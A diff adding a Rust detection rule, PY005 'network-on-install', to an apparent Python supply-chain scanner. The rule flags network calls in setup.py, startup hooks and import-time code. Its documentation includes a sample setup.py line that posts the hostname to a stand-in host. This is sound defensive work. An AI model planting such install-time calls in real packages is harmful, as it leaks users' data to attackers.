@@ -1,0 +1,63 @@
+//! PY005 network-on-install.
+
+use crate::context::Cx;
+use assay_core::{Capability, ExecutionContext, Finding, Severity};
+use assay_lang::EventKind;
+
+declare_rule! {
+    /// ## What it does
+    /// Flags network use — HTTP clients, sockets, SMTP/FTP, DNS lookups, downloads — in
+    /// code that runs without the user calling anything: `setup.py`, startup hooks, or a
+    /// module's top level.
+    ///
+    /// ## Why it matters
+    /// Installing or importing a library should not talk to the network. Malicious
+    /// packages beacon home, exfiltrate what they collected, or fetch a second stage here.
+    ///
+    /// ## Example
+    /// ```python
+    /// # setup.py
+    /// import requests
+    /// requests.post("https://example.invalid/c", data={"h": __import__("socket").gethostname()})
+    /// ```
+    ///
+    /// ## False positives
+    /// A few build scripts download a compiler or a data file at install time (severity
+    /// medium there); libraries that probe connectivity at import are rarer (low).
+    ///
+    /// ## References
+    /// - MITRE ATT&CK T1071 (Application Layer Protocol), T1041 (Exfiltration Over C2 Channel)
+    pub static META = {
+        code: "PY005",
+        name: "network-on-install",
+        family: Py,
+        summary: "Uses the network at install time, interpreter startup or import",
+        severity: High,
+        confidence: Medium,
+        targets: [Python, Pth],
+        cwe: None,
+        attack: Some("T1071"),
+    }
+}
+
+/// Check network events in automatic contexts.
+pub fn check(cx: &Cx, out: &mut Vec<Finding>) {
+    for f in &cx.python {
+        if f.is_test_or_doc() && f.role != assay_lang::FileRole::Startup {
+            continue;
+        }
+        for e in f.analysis.events.iter().filter(|e| matches!(e.kind, EventKind::Network | EventKind::Download | EventKind::DnsLookup)) {
+            let sev = match e.context {
+                ExecutionContext::Startup => Severity::High,
+                ExecutionContext::InstallTime => Severity::High,
+                ExecutionContext::ImportTime if f.role == assay_lang::FileRole::PackageInit => Severity::Medium,
+                ExecutionContext::ImportTime => Severity::Low,
+                ExecutionContext::Runtime => continue,
+            };
+            let shown = e.arg.clone().unwrap_or_else(|| e.snippet.clone());
+            let mut x = cx.event_finding(&META, f, e, sev, format!("{} at {}: {}", e.api, e.context.as_str(), shown));
+            x.capabilities = vec![Capability::Network];
+            out.push(x);
+        }
+    }
+}
